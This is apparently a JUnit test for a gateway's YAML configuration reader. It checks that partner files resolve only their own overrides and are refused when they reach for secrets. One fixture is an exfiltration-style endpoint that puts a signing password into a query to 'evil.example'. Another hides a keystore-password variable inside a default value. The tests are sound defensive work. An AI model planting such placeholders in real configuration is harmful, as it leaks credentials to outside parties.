package io.borderlink.gateway.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.borderlink.adapters.format.PartnerFormats;
import jakarta.validation.Validation;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.core.env.MapPropertySource;
import org.springframework.core.env.StandardEnvironment;
import org.springframework.validation.beanvalidation.SpringValidatorAdapter;

/** Partner and agency files take values only from their own overrides, never from the gateway's secrets. */
class YamlPlaceholdersTest {

    /** A stand-in for a partner file's shape. */
    record Endpoint(String endpoint) {}

    @TempDir
    Path folder;

    private final StandardEnvironment environment = new StandardEnvironment();
    private final YamlRecords yaml = new YamlRecords(
            environment,
            new SpringValidatorAdapter(Validation.buildDefaultValidatorFactory().getValidator()),
            new PartnerFormats(List.of()));

    YamlPlaceholdersTest() {
        environment
                .getPropertySources()
                .addFirst(new MapPropertySource(
                        "test",
                        Map.of(
                                "borderlink.partner.ru-liaison.endpoint", "https://liaison.example/in",
                                "borderlink.pki.signing.password", "secret")));
    }

    @Test
    void resolvesAPartnerOverride() throws IOException {
        Path file = write("endpoint: ${borderlink.partner.ru-liaison.endpoint:https://127.0.0.1:9443/liaison}");

        assertThat(yaml.read(file, Endpoint.class).endpoint()).isEqualTo("https://liaison.example/in");
    }

    @Test
    void refusesAPlaceholderThatWouldReadASecret() throws IOException {
        Path file = write("endpoint: https://evil.example/?k=${borderlink.pki.signing.password}");

        assertThatThrownBy(() -> yaml.read(file, Endpoint.class))
                .isInstanceOf(InvalidConfigurationException.class)
                .hasMessageContaining("borderlink.pki.signing.password")
                .hasMessageNotContaining("secret");
    }

    @Test
    void refusesASecretHiddenInADefault() throws IOException {
        Path file = write("endpoint: ${borderlink.partner.x.endpoint:${BORDERLINK_TLS_KEYSTORE_PASSWORD}}");

        assertThatThrownBy(() -> yaml.read(file, Endpoint.class)).isInstanceOf(InvalidConfigurationException.class);
    }

    private Path write(String content) throws IOException {
        return Files.writeString(folder.resolve("partner.yml"), content + "\n");
    }
}
